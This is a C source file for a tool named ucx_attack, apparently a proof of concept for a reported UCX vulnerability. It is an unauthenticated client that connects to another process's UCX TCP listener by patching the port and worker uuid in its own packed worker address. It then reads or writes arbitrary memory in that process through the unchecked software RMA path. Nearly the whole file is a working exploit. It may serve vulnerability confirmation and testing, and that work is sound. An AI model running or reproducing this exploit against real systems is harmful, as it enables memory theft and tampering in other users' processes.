/*
 * ucx_attack: an unauthenticated UCX client that reads and writes another process's memory
 * through its UCX worker's TCP listener (issue 29). Over the tcp transport UCX emulates RMA in
 * software (rma_sw.c): the target's worker copies from or to whatever address a GET/PUT request
 * names, with no check of the rkey against a registration.
 *
 * How it reaches a worker whose address it was never given: it creates its own worker (tcp on
 * lo only), finds its own tcp listening port(s) (the LISTEN sockets among its own descriptors,
 * /proc/self/fd matched against /proc/self/net/tcp{,6}), and replaces that port (2 bytes, network
 * byte order) inside its own packed worker address with the target's. The result is a worker
 * address naming the target's listener; ucp_ep_create to it connects there, wireup completes
 * with the target's real worker (the address's worker uuid is changed too, or UCX would take the
 * endpoint for a loopback to itself), and any rkey this endpoint can unpack (here: its own, packed
 * from a ucp_mem_map of its own buffer) is accepted by the software RMA path.
 *
 * Usage: ucx_attack --port P [--get ADDR LEN]... [--put ADDR HEXBYTES]... [--timeout-ms N]
 * ADDR and LEN take C notation (0x... for hex). Output, one line each, in argument order:
 *   connect P ok | connect P fail <reason>
 *   get 0xADDR LEN ok <hex> | get 0xADDR LEN fail <reason>
 *   put 0xADDR ok | put 0xADDR fail <reason>
 * Every wait is bounded (--timeout-ms per step, default 3000); an alarm ends the process if UCX
 * itself ever blocks. Exit status 0 once it ran (the results are the output), 2 for usage errors.
 *
 * Limits: the target must be reachable at the attacker's own lo address (127.0.0.1), and its
 * UCX must be built with a compatible address format (same UCX version family). If the port is
 * ambiguous inside the packed address (its two bytes occur elsewhere too), a fresh worker is
 * made (new port, new uuid) until it is not.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>

#include <ucp/api/ucp.h>

enum { OP_GET, OP_PUT };

struct op {
    int kind;
    uint64_t addr;
    size_t len;
    uint8_t *data; /* put: the bytes; get: the destination */
};

static ucp_worker_h worker;
static ucs_status_t ep_status = UCS_OK; /* set by the error handler */
static int ep_failed;
static FILE *results;  /* the original stdout */
static int results_fd = 1;

struct req_state {
    int done;
    ucs_status_t status;
};

static void usage(void)
{
    fprintf(stderr, "usage: ucx_attack --port P [--get ADDR LEN]... [--put ADDR HEXBYTES]... "
                    "[--timeout-ms N]\n");
    exit(2);
}

static int parse_u64(const char *s, uint64_t *out)
{
    char *end;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 0);
    if (errno || end == s || *end) {
        return -1;
    }
    *out = v;
    return 0;
}

static int hexval(char c)
{
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
}

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

static void on_alarm(int sig)
{
    (void)sig;
    static const char msg[] = "abort global-timeout\n";
    (void)!write(results_fd, msg, sizeof(msg) - 1);
    _exit(0);
}

static void err_handler(void *arg, ucp_ep_h ep, ucs_status_t status)
{
    (void)arg;
    (void)ep;
    ep_failed = 1;
    ep_status = status;
}

/* A request's completion state, never freed: a request given up on (timed out) may still
 * complete later and write here. */
static struct req_state *new_state(void)
{
    struct req_state *st = calloc(1, sizeof(*st));
    if (!st) {
        abort();
    }
    return st;
}

static void send_cb(void *request, ucs_status_t status, void *user_data)
{
    (void)request;
    struct req_state *st = user_data;
    st->status = status;
    st->done = 1;
}

/*
 * Waits for a nbx result: NULL (done), an error pointer, or a request completed by send_cb.
 * Returns the final status, UCS_ERR_TIMED_OUT if it did not complete in time, or the endpoint's
 * error if the peer failed first. A request still pending is left to UCX (never freed: its
 * buffer stays valid, as it is never freed either).
 */
static ucs_status_t wait_req(ucs_status_ptr_t p, struct req_state *st, int timeout_ms)
{
    if (p == NULL) {
        return UCS_OK;
    }
    if (UCS_PTR_IS_ERR(p)) {
        return UCS_PTR_STATUS(p);
    }
    double deadline = now_ms() + timeout_ms;
    while (!st->done) {
        ucp_worker_progress(worker);
        if (st->done) {
            break;
        }
        if (ep_failed) {
            /* Outstanding requests complete with an error shortly after; give them a moment. */
            double grace = now_ms() + 200;
            while (!st->done && now_ms() < grace) {
                ucp_worker_progress(worker);
            }
            if (!st->done) {
                return ep_status;
            }
            break;
        }
        if (now_ms() > deadline) {
            ucp_request_cancel(worker, p);
            return UCS_ERR_TIMED_OUT;
        }
    }
    ucp_request_free(p);
    return st->status;
}

/* Ports of the LISTEN tcp sockets among this process's descriptors. */
static int own_listen_ports(uint16_t *ports, int max)
{
    unsigned long inodes[256];
    int ninodes = 0;
    DIR *d = opendir("/proc/self/fd");
    if (!d) {
        return 0;
    }
    struct dirent *e;
    while ((e = readdir(d)) && ninodes < 256) {
        char path[300], link[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(path, link, sizeof(link) - 1);
        if (n <= 0) {
            continue;
        }
        link[n] = 0;
        unsigned long ino;
        if (sscanf(link, "socket:[%lu]", &ino) == 1) {
            inodes[ninodes++] = ino;
        }
    }
    closedir(d);
    int count = 0;
    const char *files[] = {"/proc/self/net/tcp", "/proc/self/net/tcp6"};
    for (int f = 0; f < 2; f++) {
        FILE *fp = fopen(files[f], "r");
        if (!fp) {
            continue;
        }
        char line[512];
        (void)!fgets(line, sizeof(line), fp); /* header */
        while (fgets(line, sizeof(line), fp)) {
            char local[128], remote[128];
            unsigned st, uid;
            unsigned long ino;
            /* sl local rem st tx:rx tr:tm retrnsmt uid timeout inode */
            if (sscanf(line, " %*s %127s %127s %x %*s %*s %*s %u %*s %lu", local, remote, &st,
                       &uid, &ino) != 5 || st != 0x0A) {
                continue;
            }
            char *colon = strrchr(local, ':');
            if (!colon) {
                continue;
            }
            unsigned port = (unsigned)strtoul(colon + 1, NULL, 16);
            for (int i = 0; i < ninodes; i++) {
                if (inodes[i] == ino && count < max) {
                    ports[count++] = (uint16_t)port;
                }
            }
        }
        fclose(fp);
    }
    return count;
}

static int count_port(const uint8_t *buf, size_t len, uint16_t port)
{
    uint8_t hi = port >> 8, lo = port & 0xff;
    int n = 0;
    for (size_t i = 0; i + 1 < len; i++) {
        if (buf[i] == hi && buf[i + 1] == lo) {
            n++;
        }
    }
    return n;
}

static void patch_port(uint8_t *buf, size_t len, uint16_t from, uint16_t to)
{
    for (size_t i = 0; i + 1 < len; i++) {
        if (buf[i] == (from >> 8) && buf[i + 1] == (from & 0xff)) {
            buf[i] = to >> 8;
            buf[i + 1] = to & 0xff;
        }
    }
}

int main(int argc, char **argv)
{
    long port = -1;
    int timeout_ms = 3000;
    struct op *ops = calloc(argc, sizeof(*ops));
    int nops = 0;

    for (int i = 1; i < argc; i++) {
        uint64_t v;
        if (!strcmp(argv[i], "--port") && i + 1 < argc) {
            if (parse_u64(argv[++i], &v) || v == 0 || v > 65535) usage();
            port = (long)v;
        } else if (!strcmp(argv[i], "--timeout-ms") && i + 1 < argc) {
            if (parse_u64(argv[++i], &v) || v == 0 || v > 3600000) usage();
            timeout_ms = (int)v;
        } else if (!strcmp(argv[i], "--get") && i + 2 < argc) {
            struct op *o = &ops[nops++];
            o->kind = OP_GET;
            if (parse_u64(argv[++i], &o->addr) || parse_u64(argv[++i], &v) || v > (1u << 30))
                usage();
            o->len = v;
            o->data = calloc(1, v ? v : 1);
        } else if (!strcmp(argv[i], "--put") && i + 2 < argc) {
            struct op *o = &ops[nops++];
            o->kind = OP_PUT;
            if (parse_u64(argv[++i], &o->addr)) usage();
            const char *hex = argv[++i];
            size_t hl = strlen(hex);
            if (hl % 2) usage();
            o->len = hl / 2;
            o->data = calloc(1, o->len ? o->len : 1);
            for (size_t k = 0; k < o->len; k++) {
                int a = hexval(hex[2 * k]), b = hexval(hex[2 * k + 1]);
                if (a < 0 || b < 0) usage();
                o->data[k] = (uint8_t)(a * 16 + b);
            }
        } else {
            usage();
        }
    }
    if (port < 0) usage();

    /* UCX logs to stdout: results go to the original stdout, and fd 1 becomes stderr. */
    int out_fd = dup(1);
    FILE *out = out_fd >= 0 ? fdopen(out_fd, "w") : NULL;
    if (!out || dup2(2, 1) < 0) {
        perror("ucx_attack: stdout");
        return 2;
    }
    setvbuf(out, NULL, _IOLBF, 0);
    results = out;
    results_fd = out_fd;
    signal(SIGPIPE, SIG_IGN);
    signal(SIGALRM, on_alarm);
    /* Safety net: every step is bounded below; this only catches UCX blocking inside a call. */
    alarm((unsigned)(((long)timeout_ms * (nops + 3)) / 1000 + 10));

    setenv("UCX_TLS", "tcp", 0);
    setenv("UCX_NET_DEVICES", "lo", 0);

    ucp_config_t *config;
    ucp_context_h context;
    ucs_status_t s = ucp_config_read(NULL, NULL, &config);
    if (s != UCS_OK) {
        fprintf(results, "connect %ld fail ucp_config_read: %s\n", port, ucs_status_string(s));
        goto fail_all;
    }
    ucp_params_t params = {
        .field_mask = UCP_PARAM_FIELD_FEATURES,
        .features = UCP_FEATURE_RMA,
    };
    s = ucp_init(&params, config, &context);
    ucp_config_release(config);
    if (s != UCS_OK) {
        fprintf(results, "connect %ld fail ucp_init: %s\n", port, ucs_status_string(s));
        goto fail_all;
    }

    /* A worker whose packed address holds each of its listening ports exactly once. */
    ucp_address_t *addr = NULL;
    size_t addr_len = 0;
    uint16_t ports[16];
    int nports = 0;
    for (int attempt = 0;; attempt++) {
        ucp_worker_params_t wp = {
            .field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE,
            .thread_mode = UCS_THREAD_MODE_SINGLE,
        };
        s = ucp_worker_create(context, &wp, &worker);
        if (s != UCS_OK) {
            fprintf(results, "connect %ld fail ucp_worker_create: %s\n", port,
                    ucs_status_string(s));
            goto fail_all;
        }
        s = ucp_worker_get_address(worker, &addr, &addr_len);
        if (s != UCS_OK) {
            fprintf(results, "connect %ld fail ucp_worker_get_address: %s\n", port,
                    ucs_status_string(s));
            goto fail_all;
        }
        nports = own_listen_ports(ports, 16);
        int ok = nports > 0;
        for (int i = 0; i < nports; i++) {
            ok = ok && count_port((uint8_t *)addr, addr_len, ports[i]) == 1 &&
                 count_port((uint8_t *)addr, addr_len, (uint16_t)port) == 0;
        }
        if (ok) {
            break;
        }
        ucp_worker_release_address(worker, addr);
        ucp_worker_destroy(worker);
        if (attempt == 20) {
            fprintf(results,
                    "connect %ld fail own listening port not found once in own worker "
                    "address (%d listening)\n",
                    port, nports);
            goto fail_all;
        }
    }
    for (int i = 0; i < nports; i++) {
        fprintf(stderr, "ucx_attack: own port %u -> %ld in a %zu-byte worker address\n",
                ports[i], port, addr_len);
        patch_port((uint8_t *)addr, addr_len, ports[i], (uint16_t)port);
    }
    /* The address begins [header(8 bit) | worker uuid(64 bit) | ...] (ucp/wireup/address.c).
     * Left as ours, the uuid makes UCX treat the endpoint as a loopback to this very worker
     * (no wireup is sent, and the target drops our requests as from an unknown endpoint);
     * any other uuid makes it a new peer. */
    if (addr_len > 9) {
        for (int i = 1; i <= 8; i++) {
            ((uint8_t *)addr)[i] ^= 0xa5;
        }
    }

    ucp_ep_params_t ep_params = {
        .field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                      UCP_EP_PARAM_FIELD_ERR_HANDLER,
        .address = addr,
        .err_mode = UCP_ERR_HANDLING_MODE_PEER,
        .err_handler = {.cb = err_handler, .arg = NULL},
    };
    ucp_ep_h ep;
    s = ucp_ep_create(worker, &ep_params, &ep);
    if (s != UCS_OK) {
        fprintf(results, "connect %ld fail ucp_ep_create: %s\n", port, ucs_status_string(s));
        goto fail_all;
    }

    /* Any rkey this endpoint can unpack: our own, for a buffer of our own. */
    static uint8_t own_buf[4096];
    ucp_mem_map_params_t mp = {
        .field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH |
                      UCP_MEM_MAP_PARAM_FIELD_PROT,
        .address = own_buf,
        .length = sizeof(own_buf),
        .prot = UCP_MEM_MAP_PROT_LOCAL_READ | UCP_MEM_MAP_PROT_LOCAL_WRITE |
                UCP_MEM_MAP_PROT_REMOTE_READ | UCP_MEM_MAP_PROT_REMOTE_WRITE,
    };
    ucp_mem_h memh;
    void *rkey_buf;
    size_t rkey_len;
    ucp_rkey_h rkey;
    s = ucp_mem_map(context, &mp, &memh);
    if (s == UCS_OK) s = ucp_rkey_pack(context, memh, &rkey_buf, &rkey_len);
    if (s == UCS_OK) s = ucp_ep_rkey_unpack(ep, rkey_buf, &rkey);
    if (s != UCS_OK) {
        fprintf(results, "connect %ld fail rkey: %s\n", port, ucs_status_string(s));
        goto fail_all;
    }

    /* Connected once the wireup with the target completed: a flush waits for it. */
    struct req_state *fst = new_state();
    ucp_request_param_t fp = {
        .op_attr_mask = UCP_OP_ATTR_FIELD_CALLBACK | UCP_OP_ATTR_FIELD_USER_DATA,
        .cb.send = send_cb,
        .user_data = fst,
    };
    s = wait_req(ucp_ep_flush_nbx(ep, &fp), fst, timeout_ms);
    if (s == UCS_OK && ep_failed) s = ep_status;
    if (s != UCS_OK) {
        fprintf(results, "connect %ld fail %s\n", port, ucs_status_string(s));
        goto fail_all;
    }
    fprintf(results, "connect %ld ok\n", port);

    for (int i = 0; i < nops; i++) {
        struct op *o = &ops[i];
        struct req_state *st = new_state();
        ucp_request_param_t rp = {
            .op_attr_mask = UCP_OP_ATTR_FIELD_CALLBACK | UCP_OP_ATTR_FIELD_USER_DATA,
            .cb.send = send_cb,
            .user_data = st,
        };
        if (ep_failed) {
            s = ep_status;
        } else if (o->kind == OP_GET) {
            s = wait_req(ucp_get_nbx(ep, o->data, o->len, o->addr, rkey, &rp), st, timeout_ms);
            /* A get completes locally only when the reply arrived; flush is not needed. */
        } else {
            s = wait_req(ucp_put_nbx(ep, o->data, o->len, o->addr, rkey, &rp), st, timeout_ms);
            if (s == UCS_OK) {
                /* Remote completion: the target acknowledged the write. */
                struct req_state *fs2 = new_state();
                rp.user_data = fs2;
                s = wait_req(ucp_ep_flush_nbx(ep, &rp), fs2, timeout_ms);
            }
        }
        if (s == UCS_OK && ep_failed) s = ep_status;
        if (o->kind == OP_GET) {
            if (s == UCS_OK) {
                fprintf(results, "get 0x%llx %zu ok ", (unsigned long long)o->addr, o->len);
                for (size_t k = 0; k < o->len; k++) fprintf(results, "%02x", o->data[k]);
                fprintf(results, "\n");
            } else {
                fprintf(results, "get 0x%llx %zu fail %s\n", (unsigned long long)o->addr, o->len,
                       ucs_status_string(s));
            }
        } else {
            if (s == UCS_OK) {
                fprintf(results, "put 0x%llx ok\n", (unsigned long long)o->addr);
            } else {
                fprintf(results, "put 0x%llx fail %s\n", (unsigned long long)o->addr,
                        ucs_status_string(s));
            }
        }
    }

    /* Close without waiting on the peer (it may be dead), bounded; then leave. */
    ucp_request_param_t cp = {
        .op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS,
        .flags = UCP_EP_CLOSE_FLAG_FORCE,
    };
    ucs_status_ptr_t cr = ucp_ep_close_nbx(ep, &cp);
    if (UCS_PTR_IS_PTR(cr)) {
        double deadline = now_ms() + 500;
        while (ucp_request_check_status(cr) == UCS_INPROGRESS && now_ms() < deadline) {
            ucp_worker_progress(worker);
        }
    }
    fflush(results);
    _exit(0);

fail_all:
    for (int i = 0; i < nops; i++) {
        if (ops[i].kind == OP_GET) {
            fprintf(results, "get 0x%llx %zu fail not connected\n", (unsigned long long)ops[i].addr,
                   ops[i].len);
        } else {
            fprintf(results, "put 0x%llx fail not connected\n", (unsigned long long)ops[i].addr);
        }
    }
    fflush(results);
    _exit(0);
}
